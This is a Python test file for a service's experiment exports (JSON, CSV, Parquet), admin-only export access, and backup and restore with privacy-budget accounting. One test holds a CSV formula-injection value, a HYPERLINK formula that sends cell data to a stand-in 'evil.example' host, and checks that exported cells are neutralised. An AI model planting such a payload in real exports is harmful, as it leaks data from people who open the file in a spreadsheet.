"""What leaves a service on purpose: exports of what was released, backups, and old ones put back."""

from __future__ import annotations

import csv
import json
import shutil
import stat

import httpx2
import pyarrow.parquet
import pytest
import typer.testing

from service.conftest import CENTRAL, LOCAL, Service
from tacit.cli import app
from tacit.service.backups import back_up, restore
from tacit.service.export import write
from tacit.serving.storage import StoreError
from tacit.serving.storage.high_water_mark import Marks


def lines(service, name):
    answer = service.call("GET", f"/v1/experiments/{name}/released")
    assert answer.status_code == 200
    return answer.text.splitlines()


def test_a_local_export_is_what_devices_sent(service, tmp_path):
    service.create(LOCAL)
    sent = {}
    for turn in range(6):
        decision = service.decide(person="ann-b", shown=turn % 2 == 0)
        if turn == 5:
            service.call("POST", f"/v1/experiments/news/decisions/{decision['id']}/shown")
        if turn in (0, 2, 5):
            service.report(decision, 1.0)
            value = (
                service.opened.manager.experiments["news"]
                .core.decisions.find_closed(decision["id"])
                .value
            )
            sent[decision["id"]] = value
    found = lines(service, "news")
    assert "ann-b" not in "".join(found)
    for suffix in ("json", "csv", "parquet"):
        write(tmp_path / f"x.{suffix}", found)
    assert (tmp_path / "x.json").read_text().splitlines() == found
    with (tmp_path / "x.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    table = pyarrow.parquet.read_table(tmp_path / "x.parquet").to_pylist()
    assert [row["id"] for row in rows] == [row["id"] for row in table]
    assert {row["id"]: json.loads(row["report"]) for row in table if row["report"]} == sent
    assert [row["shown"] for row in table] == [True, False, True, False, True, True]
    assert all(row["option"] in LOCAL["options"] for row in rows)


def test_no_name_in_a_table_is_a_formula(tmp_path):
    """A page's token is enough to name what is offered, and an id."""
    evil, ids = '=HYPERLINK("http://evil.example/?"&A1,"all well")', ["-1", "red", "_x"]
    service = Service(tmp_path / "s.db")
    policy = {"name": "linucb", "dimension": 1, "epsilon": 1.0}
    service.create({"name": "shop", "policy": policy, "people": ["ann"]})
    for id, name in zip(ids, [evil, "\t@SUM(1)", "'tea"], strict=True):
        service.decide("shop", id=id, person="ann", contexts={name: [-0.5]}, shown=True)
    found = lines(service, "shop")
    service.stop()
    for suffix in ("json", "csv", "parquet"):
        write(tmp_path / f"x.{suffix}", found)
    with (tmp_path / "x.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["id"] for row in rows] == ["'-1", "red", "_x"]
    assert [row["option"] for row in rows] == [f"'{evil}", "'\t@SUM(1)", "''tea"]
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
    # What no spreadsheet opens has names as they are.
    table = pyarrow.parquet.read_table(tmp_path / "x.parquet").to_pylist()
    assert [row["option"] for row in table] == [evil, "\t@SUM(1)", "'tea"]
    assert [row["id"] for row in table] == ids


def test_numbers_in_a_table_stay_numbers(tmp_path):
    made = {"kind": "decision", "id": "a", "at": 1.0, "option": "red", "probability": 0.5}
    sent = {"kind": "report", "id": "a", "at": 2.0, "value": -0.25}
    write(tmp_path / "x.csv", [json.dumps(made), json.dumps(sent)])
    with (tmp_path / "x.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["at"], row["probability"], row["report"]) == ("1.0", "0.5", "-0.25")


def test_a_central_export_has_no_reward_and_no_silence(tmp_path):
    """Histories that differ in rewards and in who answered export the same, noise aside."""
    exports = []
    for reward in (0.0, 1.0, None):
        service = Service(tmp_path / str(reward) / "s.db")
        service.create(CENTRAL)
        for turn in range(40):
            decision = service.decide("trusted", id=f"d{turn}", shown=True)
            if reward is not None:
                service.report(decision, reward, "trusted")
        rows = [json.loads(line) for line in lines(service, "trusted")]
        service.stop()
        assert {row["kind"] for row in rows} <= {"decision", "release"}
        assert not any("value" in row for row in rows)
        exports.append([(row["kind"], row.get("id"), row.get("shown")) for row in rows])
    # The eliminations of DP-SE release nothing in 40 rounds: nothing may differ.
    assert exports[0] == exports[1] == exports[2]


def test_an_export_needs_an_administrator(service):
    service.create(LOCAL)
    shop = service.opened.tokens.create("shop", ["decide", "report"])
    answer = service.call("GET", "/v1/experiments/news/released", token=shop)
    assert answer.status_code == 403


def test_the_command_writes_a_file(service, tmp_path, monkeypatch):
    service.create(LOCAL)
    service.decide(shown=True)

    def through(method, url, json=None, headers=None, timeout=None):
        return service.http.request(method, url, json=json, headers=headers)

    monkeypatch.setattr(httpx2, "request", through)
    runner = typer.testing.CliRunner()
    given = ["--url", "http://testserver", "--token", service.admin]
    out = tmp_path / "x.csv"
    done = runner.invoke(app, ["experiment", "export", "news", "--out", str(out), *given])
    assert done.exit_code == 0, done.output
    assert out.read_text().startswith("id,at,option,probability")
    done = runner.invoke(app, ["experiment", "export", "news", *given])
    assert json.loads(done.output.splitlines()[0])["kind"] == "decision"


def test_an_old_backup_is_put_back_by_one_command(tmp_path):
    store, copy = tmp_path / "s.db", tmp_path / "copy.db"
    service = Service(store)
    token = service.admin
    service.create(LOCAL, budget={"lifetime": 3.0})
    assert service.decide(person="ann", shown=True)["instructions"]
    back_up(store, copy)  # while it is in use
    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    lost = service.decide(person="ann", shown=True, id="lost")
    with pytest.raises(StoreError, match="in use"):
        restore(store, copy)
    service.stop()
    said = restore(store, copy)
    assert "old copy was restored" in said["news"]
    assert restore(store) == said  # nothing more was lost since
    again = Service(store)
    again.admin = token
    # One of three was spent, one was lost: everybody has one less, and ann has one left.
    assert again.decide(person="ann", shown=True)["instructions"]
    assert again.decide(person="ann", shown=True)["reason"] == "budget"
    report = {"v": 1, "id": lost["id"], "value": 1}
    assert again.call("POST", "/v1/experiments/news/reports", report).status_code == 404
    again.stop()
    with pytest.raises(ValueError, match="not a copy"):
        restore(store, tmp_path / "s.db.key")
    with pytest.raises(ValueError, match="found none"):
        restore(store, tmp_path / "nowhere")


def test_an_experiment_made_after_the_copy_is_named_and_may_be_made_anew(tmp_path):
    store, copy = tmp_path / "s.db", tmp_path / "copy.db"
    service = Service(store)
    token = service.admin
    service.create(LOCAL)
    back_up(store, copy)
    service.create(CENTRAL)
    gone = service.decide("trusted", shown=True)
    service.stop()
    command = ["service", "restore", str(copy), "--store", str(store)]
    done = typer.testing.CliRunner().invoke(app, command)
    assert done.exit_code == 0, done.output
    assert done.output.startswith("trusted: made after the copy, and gone")
    assert restore(store, copy) == {}  # of what is left nothing was lost, and it is said once
    again = Service(store)
    again.admin = token
    report = {"v": 1, "id": gone["id"], "value": 1}
    for made in (False, True):
        assert again.call("POST", "/v1/experiments/trusted/reports", report).status_code == 404
        if not made:
            again.create(CENTRAL)
    again.decide("trusted", shown=True)
    again.stop()
    Service(store).stop()  # its number's mark is the new one's


def test_a_copy_without_its_mark_counts_everything_as_spent(tmp_path):
    """Moved to another machine: nobody knows what came after."""
    service = Service(tmp_path / "s.db")
    service.create(LOCAL, budget={"lifetime": 1000.0})
    service.decide(person="ann", shown=True)
    service.stop()
    back_up(tmp_path / "s.db", tmp_path / "copy.db")
    elsewhere = tmp_path / "elsewhere" / "s.db"
    elsewhere.parent.mkdir()
    # Finding P8: with another key everybody would be somebody new.
    with pytest.raises(StoreError, match="found none; bring it back"):
        restore(elsewhere, tmp_path / "copy.db")
    shutil.copy(tmp_path / "s.db.key", elsewhere.parent / "s.db.key")
    assert "old copy was restored" in restore(elsewhere, tmp_path / "copy.db")["news"]
    again = Service(elsewhere)
    again.admin = again.opened.tokens.create("second", ["admin"])
    assert again.decide(person="ann", shown=True)["reason"] == "budget"
    assert [json.loads(line)["kind"] for line in lines(again, "news")] == [
        "decision",
        "epoch",
        "decision",
    ]
    again.stop()


def test_a_crash_while_a_gap_is_noted_counts_it_once_more_never_less(tmp_path, monkeypatch):
    """Between the commit of the epoch and its mark; the guarantee errs on the side of the people."""
    store, copy = tmp_path / "s.db", tmp_path / "copy.db"
    service = Service(store)
    token = service.admin
    service.create(LOCAL, budget={"lifetime": 10.0})
    service.decide(person="ann", shown=True)
    back_up(store, copy)
    for _ in range(3):
        service.decide(person="ann", shown=True)
    service.stop()
    with monkeypatch.context() as crash:

        def gone(*_, **__):
            raise OSError("the machine stopped")

        crash.setattr(Marks, "write", gone)
        with pytest.raises(OSError, match="stopped"):
            restore(store, copy)
    restore(store)
    again = Service(store)
    again.admin = token
    core = again.opened.manager.experiments["news"].core
    counted = sum(debt for _, _, debt in core.budget.debts)
    assert counted >= 3 * core.cost
    # Of ten, one was spent, and three were lost; they may be counted twice.
    asked = [again.decide(person="ann", shown=True)["reason"] for _ in range(10)]
    left = asked.count("learn")
    assert left == 10 - 1 - counted // core.cost <= 10 - 1 - 3
    again.stop()
